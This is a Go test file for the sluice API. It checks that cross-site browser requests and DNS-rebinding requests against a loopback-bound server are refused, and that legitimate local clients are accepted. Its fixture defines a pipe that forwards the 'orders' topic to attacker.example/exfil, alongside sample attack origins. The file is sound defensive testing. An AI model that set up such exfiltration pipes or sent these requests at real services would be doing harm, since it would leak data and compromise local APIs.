package api_test

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/sluice-dev/sluice/internal/api"
	"github.com/sluice-dev/sluice/internal/api/apitest"
)

const pipeBody = `{"name":"exfil","bootstrapServers":["127.0.0.1:9092"],"topics":["orders"],"target":{"http":{"url":"http://attacker.example/exfil"}}}`

// sendAs makes a request to h directly, so the Host header is exactly what
// the test says.
func sendAs(t *testing.T, h http.Handler, method, host, path, body string, headers map[string]string) (int, string) {
	t.Helper()
	r := httptest.NewRequest(method, "http://"+host+path, strings.NewReader(body))
	r.Host = host
	for k, v := range headers {
		r.Header.Set(k, v)
	}
	w := httptest.NewRecorder()
	h.ServeHTTP(w, r)
	var e struct{ Code, Message string }
	_ = json.Unmarshal(w.Body.Bytes(), &e)
	return w.Code, e.Code + ": " + e.Message
}

// TestBrowserAttacksRefused sends what a web page of another site can
// make a browser send to the API on 127.0.0.1, and what a DNS-rebinding
// page sends under its own name; each is refused and creates nothing.
func TestBrowserAttacksRefused(t *testing.T) {
	svc := apitest.NewService(t)
	dev := api.NewHandler(svc, nil, api.WithLoopbackHosts())
	for _, c := range []struct {
		name, method, host, path, body string
		headers                        map[string]string
		status                         int
		says                           string
	}{
		{"cross-site POST with an Origin", "POST", "127.0.0.1:8080", "/v1/pipes", pipeBody,
			map[string]string{"Origin": "http://evil.example", "Content-Type": "text/plain"}, 403, "cross-origin request refused"},
		{"cross-site POST by Sec-Fetch-Site", "POST", "127.0.0.1:8080", "/v1/pipes", pipeBody,
			map[string]string{"Sec-Fetch-Site": "cross-site", "Content-Type": "application/json"}, 403, "cross-origin request refused"},
		{"cross-site DELETE", "DELETE", "127.0.0.1:8080", "/v1/pipes/orders", "",
			map[string]string{"Sec-Fetch-Site": "cross-site"}, 403, "cross-origin"},
		{"text/plain body without an Origin", "POST", "127.0.0.1:8080", "/v1/pipes", pipeBody,
			map[string]string{"Content-Type": "text/plain"}, 415, `Content-Type "text/plain" refused`},
		{"no content type", "POST", "127.0.0.1:8080", "/v1/pipes", pipeBody, nil, 415, "Content-Type (none) refused"},
		{"form-encoded Lambda create", "POST", "127.0.0.1:8080", "/2015-03-31/event-source-mappings/", "FunctionName=x",
			map[string]string{"Content-Type": "application/x-www-form-urlencoded"}, 415, "send the body as application/json"},
		{"DNS rebinding write", "POST", "rebind.attacker.example:8080", "/v1/pipes", pipeBody,
			map[string]string{"Content-Type": "application/json"}, 403, `Host "rebind.attacker.example:8080" refused`},
		{"DNS rebinding read", "GET", "rebind.attacker.example", "/v1/pipes", "", nil, 403, "Host"},
	} {
		status, msg := sendAs(t, dev, c.method, c.host, c.path, c.body, c.headers)
		if status != c.status || !strings.Contains(msg, c.says) {
			t.Errorf("%s: %d %q, want %d saying %q", c.name, status, msg, c.status, c.says)
		}
	}
	if ps, err := svc.ListPipes(t.Context()); err != nil || len(ps) != 0 {
		t.Fatalf("pipes after the attacks: %v, %v", ps, err)
	}
}

// TestBrowserGuardAllowsClients: the CLI, the AWS CLI and same-origin
// requests pass, under every loopback name.
func TestBrowserGuardAllowsClients(t *testing.T) {
	dev := api.NewHandler(apitest.NewService(t), nil, api.WithLoopbackHosts())
	for i, host := range []string{"127.0.0.1:8080", "localhost:8080", "[::1]:8080", "LOCALHOST", "127.0.0.1"} {
		body := strings.Replace(pipeBody, "exfil", "p"+string(rune('a'+i)), 1)
		status, msg := sendAs(t, dev, "POST", host, "/v1/pipes", body, map[string]string{"Content-Type": "application/json; charset=utf-8"})
		if status != http.StatusCreated {
			t.Errorf("POST with Host %s: %d %s", host, status, msg)
		}
	}
	if status, msg := sendAs(t, dev, "POST", "127.0.0.1:8080", "/v1/pipes", strings.Replace(pipeBody, "exfil", "same", 1),
		map[string]string{"Content-Type": "application/json", "Sec-Fetch-Site": "same-origin", "Origin": "http://127.0.0.1:8080"}); status != http.StatusCreated {
		t.Errorf("same-origin POST: %d %s", status, msg)
	}
	// The AWS JSON protocol's own type passes the guard on the Lambda
	// routes (what the handler then says is its own business).
	if status, msg := sendAs(t, dev, "POST", "127.0.0.1:8080", "/2015-03-31/event-source-mappings/", `{}`,
		map[string]string{"Content-Type": "application/x-amz-json-1.1"}); status == http.StatusUnsupportedMediaType || status == http.StatusForbidden {
		t.Errorf("Lambda create with application/x-amz-json-1.1: %d %s", status, msg)
	}
	// Without WithLoopbackHosts (serve, which needs tokens), any Host.
	serve := api.NewHandler(apitest.NewService(t), nil)
	if status, msg := sendAs(t, serve, "GET", "sluice.internal.example:8080", "/v1/pipes", "", nil); status != http.StatusOK {
		t.Errorf("serve with a DNS name: %d %s", status, msg)
	}
}
